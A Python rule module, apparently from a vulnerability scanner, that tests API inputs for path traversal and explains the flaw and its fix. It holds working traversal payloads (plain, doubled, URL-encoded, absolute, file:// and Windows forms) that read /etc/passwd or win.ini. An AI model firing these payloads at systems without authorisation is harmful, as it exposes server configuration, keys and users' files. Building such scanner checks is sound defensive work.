"""Path traversal: a value of a request becomes a part of a file's path, and leads out of the directory that it should stay in.

Whoever can name any file reads configuration, keys and other people's uploads.

What is tried, on inputs whose names or values speak of files: `../` in the forms that filters miss (encoded, doubled, absolute)
before a file that every system of its kind has. What proves it is the file's own content (a line of /etc/passwd or win.ini), seen
twice, which the same path with another last name does not show. Only operations that read are tried.

To fix: choose files by an id from a list, or resolve the path and compare its beginning with the directory.

What it misses: files elsewhere, such as in a container without those files.
"""

import re

from yett.formats.names import words
from yett.model.probe import Exchanged, Flaw, ProbeRule, Probing
from yett.model.rule import Severity
from yett.rules.probing.claiming import of_input
from yett.rules.probing.operation import Operation
from yett.rules.probing.target import Target
from yett.rules.probing.trying import Trial, trials
from yett.rules.probing.wording import listed

RULE = ProbeRule(
    id="injection-path",
    title="Path traversal",
    severity=Severity.HIGH,
    flaws=(Flaw.PATH_TRAVERSAL,),
    requests=90,
    weight=3,
    owasp=("API8:2023",),
    cwe=(22,),
    references=("https://owasp.org/www-community/attacks/Path_Traversal",),
)

_NAMES = listed(
    "file filename files path filepath dir directory folder document documents doc docs page template view image img picture photo "
    "avatar download attachment attachments report export log logs name key asset assets static media resource lang language "
    "locale theme include load read src source backup invoice config content"
)
_UP = "../" * 8
_WAYS = (
    (_UP, "etc/passwd"),
    ("/", "etc/passwd"),
    ("....//" * 8, "etc/passwd"),
    ("..%2f" * 8, "etc%2fpasswd"),
    ("file:///", "etc/passwd"),
    ("..\\" * 8, "windows\\win.ini"),
)
_PASSWD = re.compile(rb"root:[^:\n]{0,40}:0:0:")
_INI = b"; for 16-bit app support"


def probe(target: Target, operation: Operation) -> Probing:
    for trial in (yield from trials(target, operation)):
        if trial.reads and not trial.number and _speaks_of_files(trial):
            yield from _one(trial)


def _speaks_of_files(trial: Trial) -> bool:
    name = set(words(trial.place.name.rpartition("/")[2]))
    file = trial.text.rpartition("/")[2].rpartition(".")[2]
    return bool(_NAMES & (name | trial.operation.words)) or (file != trial.text and 1 <= len(file) <= 5 and file.isalnum())


def shown(one: Exchanged) -> bool:
    """Whether the answer holds what stands in the file."""
    body = one.answer.body[:65_536]
    return _PASSWD.search(body) is not None or _INI in body


def _one(trial: Trial) -> Probing:
    before = trial.text.rpartition("/")[0]
    for up, file in _WAYS:
        starts = [up, f"{before}/{up}"] if before and up is _UP else [up]
        for start in starts:
            first = yield from trial.send(start + file, "leads to a file outside")
            if not shown(first):
                continue
            odd = yield from trial.send(f"{start}{file}{trial.target.token()}", "the same way to a file that is not there")
            again = yield from trial.send(start + file, "once more")
            if shown(again) and not shown(odd):
                text = (
                    f"The value of {trial.place.text} leads to files outside of their directory: the answer holds /etc/passwd."
                )
                yield of_input(trial, Flaw.PATH_TRAVERSAL, text, [first], [odd], "files of the system can be read")
                return
